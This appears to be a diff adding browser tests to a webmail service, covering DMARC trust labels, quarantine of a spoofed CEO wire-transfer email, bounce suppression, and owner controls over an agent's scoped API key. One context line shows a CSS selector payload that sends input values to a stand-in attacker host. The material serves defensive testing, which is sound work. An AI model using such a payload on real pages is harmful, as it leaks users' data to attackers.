@@ -22,6 +22,7 @@ import os
 import re
 import sys
 import threading
+import urllib.error
 import urllib.request
 
 from playwright.sync_api import expect, sync_playwright
@@ -363,6 +364,12 @@ def webmail(page, watch):
     shot(page, "mail")
     thread.get_by_role("link").click()
     expect(page.locator("article.message")).to_contain_text("Shall we meet at noon?")
+    # No DMARC policy and no signature: said plainly, the checks beneath.
+    trust = page.locator("article.message.inbound .trust")
+    expect(trust).to_have_attribute("data-trust", "unverified")
+    expect(trust).to_contain_text("could not be verified")
+    trust.get_by_text("The checks").click()
+    expect(trust).to_contain_text("DKIM: no signature")
     shot(page, "thread")
     page.get_by_role("button", name="Reply").click()
     compose = page.get_by_role("form", name="Reply")
@@ -524,6 +531,167 @@ input[value^="a"] {{ background-image: url({evil}/exfil-a); }}</style>
     watch.errors = [e for e in watch.errors if "Content Security Policy" not in e and "sandbox" not in e.lower()]
     page.evaluate("document.getElementById('raw-frame').remove()")
     server.shutdown()
+    watch.check()
+
+
+def quarantine(page, watch):
+    """Mail that fails its domain's p=reject is kept out of the inbox, listed
+    apart, and read with the warning first."""
+    harness("/dns", body=[{"type": "TXT", "host": "_dmarc.bank.example", "value": "v=DMARC1; p=reject"},
+                          {"type": "TXT", "host": "bank.example", "value": "v=spf1 ip4:192.0.2.0/24 -all"}])
+    harness("/deliver", raw=(
+        "Delivered-To: ann@newco.example\r\nFrom: CEO <ceo@bank.example>\r\nTo: ann@newco.example\r\n"
+        "Subject: Wire the money today\r\nMessage-ID: <spoof@bank.example>\r\n\r\nSend it now.\r\n"))
+    nav(page, "Mail")
+    page.get_by_role("tab", name="Inbox").click()
+    expect(page.get_by_role("list", name="Threads in inbox")).to_contain_text("Nothing in inbox")
+    page.get_by_role("tab", name="Quarantine").click()
+    kept = page.get_by_role("list", name="Mail kept out of the inbox")
+    expect(kept).to_contain_text("Wire the money today")
+    expect(kept).to_contain_text("Kept out: spoofed")
+    kept.get_by_role("link").first.click()
+    trust = page.locator("article.message .trust")
+    expect(trust).to_have_attribute("data-trust", "spoofed")
+    expect(trust).to_contain_text("Not from bank.example")
+    expect(trust).to_contain_text("Kept out of your inbox")
+    expect(page.locator("article.message")).to_contain_text("Send it now.")
+    shot(page, "quarantine")
+    page.get_by_role("button", name="← Back").click()
+    expect(page.get_by_role("list", name="Mail kept out of the inbox")).to_be_visible()
+    watch.check()
+
+
+def sent_mail(page, watch):
+    """What became of each send; a bounce suppresses, and the owner lifts it.
+    A send for tomorrow waits, and is cancelled."""
+    nav(page, "Mail")
+    page.get_by_role("button", name="Write").click()
+    compose = page.get_by_role("form", name="New message")
+    compose.get_by_label("To").fill("pal@partner.example")
+    compose.get_by_label("Subject").fill("Tomorrow's note")
+    compose.get_by_label("Message").fill("Sent tomorrow, unless cancelled.")
+    tomorrow = page.evaluate(
+        "(() => { const d = new Date(Date.now() + 86400000); d.setSeconds(0, 0);"
+        " return new Date(d - d.getTimezoneOffset() * 60000).toISOString().slice(0, 16); })()")
+    compose.get_by_label("Send later (optional)").fill(tomorrow)
+    compose.get_by_role("button", name="Send").click()
+    waiting = page.locator('[data-waiting="scheduled"]')
+    expect(waiting).to_contain_text("Scheduled: it goes out at")
+    waiting.get_by_role("button", name="Cancel this send").click()
+    expect(waiting.get_by_role("status")).to_contain_text("Cancelled: nothing was sent")
+    waiting.get_by_role("button", name="Back to mail").click()
+    page.get_by_role("button", name="Write").click()
+    compose = page.get_by_role("form", name="New message")
+    compose.get_by_label("To").fill("bounced+web@simulator.svc.test")
+    compose.get_by_label("Subject").fill("Does this arrive?")
+    compose.get_by_label("Message").fill("A test of the bounce.")
+    compose.get_by_role("button", name="Send").click()
+    expect(page.get_by_role("form", name="New message")).to_have_count(0)
+    nav(page, "Sent mail")
+    bounced = page.locator('tr[data-recipient="bounced+web@simulator.svc.test"]')
+    expect(bounced.locator(".status-pill")).to_have_text("bounced")
+    expect(bounced).to_contain_text("5.1.1")
+    replied = page.locator('tr[data-recipient="pal@partner.example"]')
+    expect(replied.locator(".status-pill")).to_have_text("sent")
+    suppressed = page.locator('tr[data-suppressed="bounced+web@simulator.svc.test"]')
+    expect(suppressed).to_contain_text("hard bounce")
+    shot(page, "sent")
+    # By hand: refused with the API's sentence, then listed.
+    add = page.get_by_role("form", name="Suppress an address")
+    add.get_by_label("Address").fill("not an address")
+    watch.expect_refusal(400)
+    add.get_by_role("button", name="Suppress").click()
+    expect(add.get_by_role("alert")).to_be_visible()
+    expect(add.get_by_label("Address")).to_have_value("not an address")
+    add.get_by_label("Address").fill("nobody@partner.example")
+    add.get_by_role("button", name="Suppress").click()
+    expect(page.locator('tr[data-suppressed="nobody@partner.example"]')).to_contain_text("added by hand")
+    page.get_by_role("button", name="Remove bounced+web@simulator.svc.test").click()
+    expect(page.locator('tr[data-suppressed="bounced+web@simulator.svc.test"]')).to_have_count(0)
+    watch.check()
+
+
+def api_call(method, path, key, body=None):
+    """A call an agent makes with its own key, outside the browser."""
+    data = json.dumps(body).encode() if body is not None else None
+    req = urllib.request.Request(BASE + path, data=data, method=method)
+    req.add_header("Authorization", f"Bearer {key}")
+    req.add_header("Content-Type", "application/json")
+    try:
+        with urllib.request.urlopen(req, timeout=30) as res:
+            return res.status, json.loads(res.read())
+    except urllib.error.HTTPError as e:
+        return e.code, json.loads(e.read())
+
+
+def guardrails(page, watch):
+    """The owner mints a scoped key for an agent, approves the send it held,
+    keeps lists, reads the audit log and revokes the key."""
+    nav(page, "Guardrails")
+    create = page.get_by_role("form", name="New key")
+    create.get_by_label("Name").fill("Support agent")
+    create.get_by_label("Send mail").check()
+    create.get_by_label("ann@newco.example").check()
+    create.get_by_label("Sends a day (optional, 1 to 50)").fill("99")
+    create.get_by_label("Approval").select_option("first_contact")
+    watch.expect_refusal(400)
+    create.get_by_role("button", name="Create key").click()
+    expect(create.get_by_role("alert")).to_contain_text("dailySendCap")
+    create.get_by_label("Sends a day (optional, 1 to 50)").fill("20")
+    create.get_by_role("button", name="Create key").click()
+    expect(page.get_by_text("Store this key now")).to_be_visible()
+    scoped = page.locator(".key-once code.secret").inner_text()
+    assert scoped.startswith("svc_"), scoped
+    shot(page, "new-key")
+    page.get_by_role("button", name="I stored it: continue").click()
+    row = page.locator("tr[data-key]").first
+    expect(row).to_contain_text("Support agent")
+    expect(row).to_contain_text("only ann@newco.example")
+    expect(row).to_contain_text("first contacts held")
+    expect(page.locator(".panel")).not_to_contain_text(scoped)
+    # The agent writes to someone never mailed: held for the owner.
+    status, body = api_call("POST", "/sendMail", scoped, {
+        "from": "ann@newco.example", "to": "stranger@elsewhere.example",
+        "subject": "Hello from the agent", "text": "May I help?"})
+    assert status == 202 and body["status"] == "held", (status, body)
+    nav(page, "Mail")
+    nav(page, "Guardrails")
+    held = page.locator(f'tr[data-hold="{body["holdId"]}"]')
+    expect(held).to_contain_text("Hello from the agent")
+    expect(held).to_contain_text("Support agent")
+    held.get_by_role("button", name="Approve “Hello from the agent”").click()
+    expect(page.locator(f'tr[data-hold="{body["holdId"]}"] .status-pill')).to_have_text("sent")
+    # Lists: never send to a rival, then lifted.
+    lists = page.get_by_role("form", name="Add a list entry")
+    lists.get_by_label("Rule").select_option("send block")
+    lists.get_by_label("Address or domain").fill("rival.example")
+    lists.get_by_role("button", name="Add entry").click()
+    entry = page.locator('tr[data-entry="send block rival.example"]')
+    expect(entry).to_contain_text("Never send to")
+    status, body = api_call("POST", "/sendMail", scoped, {
+        "from": "ann@newco.example", "to": "ceo@rival.example", "subject": "Hi", "text": "Hi"})
+    assert status == 400 and body.get("code") == "recipient_blocked", (status, body)
+    shot(page, "guardrails")
+    page.get_by_role("button", name="Remove rival.example").click()
+    expect(page.locator('tr[data-entry="send block rival.example"]')).to_have_count(0)
+    # The audit log: who did what, filtered by operation.
+    audit = page.get_by_role("form", name="Filter the audit log")
+    audit.get_by_label("Operation").fill("approveHold")
+    audit.get_by_role("button", name="Filter").click()
+    rows = page.locator("tr[data-change]")
+    expect(rows).to_have_count(1)
+    expect(rows.first).to_contain_text("account key")
+    audit.get_by_label("Operation").fill("")
+    audit.get_by_role("button", name="Filter").click()
+    # The refused mint (a cap of 99) changed nothing, so it left no row.
+    minted = page.locator("tr[data-change]", has_text="createKey")
+    expect(minted).to_have_count(1)
+    expect(minted).to_contain_text("name=Support agent")
+    # Revoked: the key's next call is refused.
+    page.get_by_role("button", name="Revoke Support agent").click()
+    expect(page.locator("tr[data-key]")).to_have_count(0)
+    status, _ = api_call("GET", "/inbox", scoped)
+    assert status == 401, status
     watch.check()
 
 
@@ -701,6 +869,9 @@ def main():
         mailboxes(page, watch)
         webmail(page, watch)
         malicious(page, watch)
+        quarantine(page, watch)
+        sent_mail(page, watch)
+        guardrails(page, watch)
         account_settings(page, watch)
         operator_pauses(op_page, op_watch)
         drafts(op_page, op_watch)
